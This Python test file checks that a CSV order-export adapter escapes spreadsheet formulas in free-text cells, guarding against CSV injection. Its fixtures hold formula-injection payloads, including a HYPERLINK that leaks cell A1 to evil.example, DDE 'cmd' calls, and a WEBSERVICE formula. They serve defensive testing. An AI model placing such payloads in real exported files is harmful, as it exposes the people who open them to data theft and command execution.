"""Order files neutralise spreadsheet formulas in free-text cells (OWASP CSV injection), unless
``escape_formulas = false`` asks for the verbatim text (machine readers)."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st
from oc_bridge_csv import CsvAdapter
from oc_bridge_csv.outbound import FREE_TEXT_COLUMNS, neutralise

from oc_bridge.canonical import FulfilmentOrder
from oc_bridge.testing import make_fulfilment_order

HOSTILE = {
    "company": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "first_name": "+cmd|' /C calc'!A0",
    "last_name": "",
    "street": "-2+3",
    "city": "@SUM(1+1)*cmd|' /C calc'!A0",
    "phone": "+31 20 123 4567",
    "address_line2": "\tDDE",
    "postal_code": "\r=1+1",
}


def hostile_order() -> FulfilmentOrder:
    order = make_fulfilment_order(2)
    ship = order.ship_to.model_copy(update=HOSTILE)
    line = order.lines[0].model_copy(update={"name": "=1+1"})
    return order.model_copy(update={"ship_to": ship, "notes": "=WEBSERVICE(\"x\")",
                                    "phone": HOSTILE["phone"],
                                    "retailer_reference": "@ref",
                                    "lines": (line, *order.lines[1:])})


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:  # keep a CR inside a cell
        return list(csv.DictReader(handle))


def test_free_text_cells_starting_a_formula_are_written_as_text(
        make_adapter: Callable[..., CsvAdapter], tmp_path: Path) -> None:
    adapter = make_adapter()
    order = hostile_order()
    written = rows(tmp_path / "out" / str(adapter.submit_order(order).external_id))
    first = written[0]
    assert first["company_name"] == "'" + HOSTILE["company"]
    assert first["contact_name"] == "'" + HOSTILE["first_name"]
    assert first["street"] == "'-2+3" and first["city"].startswith("'@")
    assert first["phone"] == "'+31 20 123 4567"
    assert first["address_line_2"] == "'\tDDE" and first["postal_code"] == "'\r=1+1"
    assert first["note"] == "'=WEBSERVICE(\"x\")" and first["retailer_reference"] == "'@ref"
    assert first["title"] == "'=1+1"
    # ids, SKUs, numbers and dates are the bridge's own and stay exact
    assert first["order_id"] == order.reference and first["sku"] == order.lines[0].sku
    assert first["quantity"] == str(order.lines[0].quantity)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r"))
                   for row in written for cell in row.values())


def test_machine_readers_can_turn_it_off(
        make_adapter: Callable[..., CsvAdapter], tmp_path: Path) -> None:
    adapter = make_adapter(escape_formulas=False)
    written = rows(tmp_path / "out" / str(adapter.submit_order(hostile_order()).external_id))
    assert written[0]["company_name"] == HOSTILE["company"]
    assert written[0]["phone"] == HOSTILE["phone"]


def test_a_cancellation_reason_is_neutralised_too(
        make_adapter: Callable[..., CsvAdapter], tmp_path: Path) -> None:
    adapter = make_adapter()
    order = make_fulfilment_order(1)
    adapter.cancel_order(order, None, reason="=HYPERLINK(\"http://evil.example\")")
    [path] = (tmp_path / "out").glob("cancel-*.csv")
    written = rows(path)
    assert written[0]["reason"] == "'=HYPERLINK(\"http://evil.example\")"


def test_the_free_text_columns_are_documented() -> None:
    docs = (Path(__file__).parents[2] / "docs" / "csv.md").read_text(encoding="utf-8")
    assert "escape_formulas" in docs
    for column in FREE_TEXT_COLUMNS:
        assert f"`{column}`" in docs


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=30))
def test_a_neutralised_cell_never_starts_a_formula_and_keeps_its_text(text: str) -> None:
    cell = neutralise(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == text or cell == "'" + text
